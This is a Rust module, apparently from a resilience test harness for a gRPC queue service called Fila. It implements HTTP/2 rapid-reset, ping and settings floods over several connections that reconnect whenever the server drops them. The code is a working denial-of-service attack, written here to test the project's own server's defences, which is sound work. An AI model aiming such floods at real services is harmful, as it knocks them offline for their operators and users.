//! Floods of small frames, as known from attacks on HTTP/2: resets, pings and settings.

use std::io;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::sleep;

use super::trial::{Victim, count};
use crate::wire::{FrameKind, Wire};

const CONNECTIONS: usize = 4;

/// Frames between two looks at the answers.
const BURST: usize = 100;

/// The code of a reset that means "no longer needed".
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// What a flood consists of.
#[derive(Clone, Copy, Debug)]
enum FloodOf {
    BegunAndReset,
    Ping,
    Settings,
}

/// Calls that are reset as soon as they have begun.
pub(super) async fn rapid_resets(victim: &Victim) -> anyhow::Result<()> {
    flood(victim, FloodOf::BegunAndReset).await
}

pub(super) async fn pings(victim: &Victim) -> anyhow::Result<()> {
    flood(victim, FloodOf::Ping).await
}

pub(super) async fn settings(victim: &Victim) -> anyhow::Result<()> {
    flood(victim, FloodOf::Settings).await
}

async fn flood(victim: &Victim, of: FloodOf) -> anyhow::Result<()> {
    let mut connections = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let victim = victim.clone();
        connections.spawn_local(async move {
            loop {
                count(&victim.counts.connections, 1);
                // A server that defends itself closes the connection; the attacker comes back.
                let _ = pour(&victim, of).await;
                count(&victim.counts.closed, 1);
                sleep(Duration::from_millis(10)).await;
            }
        });
    }
    while connections.join_next().await.is_some() {}
    Ok(())
}

async fn pour(victim: &Victim, of: FloodOf) -> io::Result<()> {
    let mut wire = Wire::open(&victim.socket).await?;
    loop {
        for _ in 0..BURST {
            match of {
                FloodOf::BegunAndReset => {
                    let call = wire.begin("/fila.v1.FilaService/Enqueue").await?;
                    wire.frame(FrameKind::Reset, 0, call, &CANCEL).await?;
                    wire.forget(call);
                }
                FloodOf::Ping => wire.frame(FrameKind::Ping, 0, 0, &[7; 8]).await?,
                FloodOf::Settings => wire.frame(FrameKind::Settings, 0, 0, &[]).await?,
            }
            count(&victim.counts.calls, 1);
        }
        wire.attend().await?;
        tokio::task::yield_now().await;
    }
}
